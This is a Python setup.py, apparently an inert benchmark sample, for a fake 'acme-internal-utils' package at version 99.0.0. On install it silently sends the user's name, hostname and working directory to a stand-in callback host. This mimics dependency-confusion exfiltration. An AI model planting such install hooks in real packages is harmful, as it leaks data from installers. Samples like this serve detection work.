# ruff: noqa
# fmt: off
# Inert benchmark sample (see bench/samples/INCIDENTS.md); every host is under example.invalid.
import getpass
import os
import socket
import urllib.parse
import urllib.request

from setuptools import setup

info = {"user": getpass.getuser(), "host": socket.gethostname(), "cwd": os.getcwd(), "pkg": "acme-internal-utils"}
try:
    urllib.request.urlopen("https://x1y2.oast.example.invalid/?" + urllib.parse.urlencode(info), timeout=3)
except Exception:
    pass

setup(name="acme-internal-utils", version="99.0.0", packages=[])
